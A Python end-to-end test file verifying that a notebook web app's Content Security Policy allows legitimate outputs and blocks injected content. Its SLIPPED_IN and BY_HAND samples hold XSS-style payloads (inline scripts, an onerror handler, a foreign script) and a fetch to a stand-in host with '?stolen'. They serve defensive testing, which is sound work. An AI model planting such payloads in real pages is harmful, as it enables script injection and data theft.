"""The site's policy for its pages: what is ours runs under it, what was slipped in does not."""

from __future__ import annotations

from typing import Any

import pytest

from e2e.notebook import Lab, Notebook
from e2e.team.tab import SPARK, Person

pytestmark = [pytest.mark.xdist_group("tab"), pytest.mark.any_stack]

PREPARE = "import pyspark_connect_web as pcw\nspark = pcw.session()"
WATCH = """
() => {
  window.violations ??= [];
  if (window.watching) return;
  window.watching = true;
  document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
    window.violations.push(`${violatedDirective} ${blockedURI}`));
}
"""


@pytest.fixture(autouse=True)
def _watch(alice: Person, lab: Lab, notebook: Notebook) -> None:
    notebook.run_cell(PREPARE)
    lab.page.evaluate(WATCH)
    lab.page.evaluate("() => { window.violations.length = 0; }")
    alice.console.clear()


def violations(alice: Person, lab: Lab) -> list[str]:
    """What the page's own events and the console, where workers' are too, tell of."""
    told = [text for text in alice.console if "Content Security Policy" in text]
    return [*lab.page.evaluate("() => window.violations"), *told]


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("import matplotlib.pyplot as plt\nplt.plot([1, 3, 2]);", "img"),
        ("import ipywidgets as widgets\nwidgets.IntSlider(value=7)", ".widget-slider"),
        ("%%sql\nselect id, id * 2 as twice from range(3)", "table"),
        ("spark.range(3).plot.line(x='id', y='id')", ".js-plotly-plot .main-svg"),
        ("spark.range(3).toPandas()", "table"),
    ],
    ids=["matplotlib", "ipywidgets", "sql", "plotly", "pandas"],
)
def test_what_notebooks_show_is_drawn_without_a_violation(
    alice: Person, lab: Lab, notebook: Notebook, source: str, shown: str
) -> None:
    result = notebook.run_cell(source)
    assert result.error is None
    cell = notebook.panel.locator(".jp-Notebook .jp-Cell").nth(result.index)
    cell.locator(f".jp-OutputArea-output {shown}").first.wait_for()
    assert violations(alice, lab) == []


def test_files_go_to_spark_and_back_and_out_of_the_browser_without_a_violation(
    alice: Person, lab: Lab, notebook: Notebook
) -> None:
    source = (
        "open('mine.csv', 'w').write('a\\n1\\n')\n"
        "pcw.download(pcw.upload('mine.csv'), 'back.csv').read_text()"
    )
    assert notebook.run_cell(source).text == "'a\\n1\\n'"
    with lab.page.expect_download() as download:
        lab.page.evaluate("() => jupyterapp.commands.execute('docmanager:download')")
    assert download.value.suggested_filename.endswith(".ipynb")
    assert violations(alice, lab) == []


SLIPPED_IN = """
from IPython.display import HTML, display
display(HTML('''
  <p id="ours">shown</p>
  <script>window.slipped = "inline script";</script>
  <img src="x" onerror="window.slipped = 'inline handler'">
  <iframe srcdoc="<script>parent.slipped = 'frame'</script>"></iframe>
  <script src="https://elsewhere.example.org/foreign.js"></script>
'''))
"""

BY_HAND = """
() => {
  const add = (tag, values) =>
    document.body.append(Object.assign(document.createElement(tag), values));
  add("script", { textContent: "window.slipped = 'inline script'" });
  add("script", { src: "https://elsewhere.example.org/foreign.js" });
  add("div", { innerHTML: "<img src=x onerror=\\"window.slipped = 'inline handler'\\">" });
  fetch("https://elsewhere.example.org/?stolen").catch(() => {});
}
"""


def test_a_script_that_an_output_brings_does_not_run(
    alice: Person, lab: Lab, notebook: Notebook
) -> None:
    result = notebook.run_cell(SLIPPED_IN)
    assert result.error is None
    assert "shown" in result.html
    lab.page.evaluate(BY_HAND)
    lab.wait("the violations", "() => window.violations.length >= 4")
    assert lab.page.evaluate("() => window.slipped") is None
    told = " ".join(violations(alice, lab))
    for directive in ("script-src-elem inline", "script-src-attr inline", "connect-src https"):
        assert directive in told


def test_a_page_of_another_origin_cannot_call_spark_with_the_persons_login(alice: Person) -> None:
    log = alice.log()
    page = alice.context.new_page()
    page.goto(
        f"http://127.0.0.1:{alice.stack.team.settings.provider_port}/.well-known/openid-configuration"
    )
    answers = page.evaluate(
        """async (url) => {
          const body = new Uint8Array([0, 0, 0, 0, 0]);
          const calls = [
            { mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" } },
            { credentials: "include", headers: { "content-type": "application/grpc-web+proto" } },
          ];
          return Promise.all(calls.map(async (call) => {
            const answer = await fetch(url, { method: "POST", body, ...call }).catch(() => null);
            return answer ? answer.status : "refused";
          }));
        }""",
        f"{alice.site.rstrip('/')}{SPARK}Config",
    )
    page.close()
    assert answers == ["refused", "refused"]
    lines = log.wait(lambda lines: any(map(_is_foreign, lines)))
    calls = [line for line in lines if _is_foreign(line)]
    assert [(line["status"], line["user"]) for line in calls] == [(403, None)]


def _is_foreign(line: dict[str, Any]) -> bool:
    """A notebook's own calls, whose lines may come late, name the cell."""
    return line["path"] == f"{SPARK}Config" and line["method"] == "POST" and not line["cell"]


def test_the_policy_is_on_every_kind_of_answer(alice: Person, lab: Lab) -> None:
    wanted = "content-security-policy"
    script: Any = f"""
    () => Promise.all(["lab/index.html", "pcw_io_worker.js", "nowhere", "pcw/session"].map(
      async (path) => (await fetch("/" + path)).headers.get("{wanted}")))
    """
    policies = lab.page.evaluate(script)
    assert len(set(policies)) == 1
    assert "script-src 'self'" in policies[0]
    assert "unsafe-inline" not in policies[0].partition("script-src")[2].partition(";")[0]
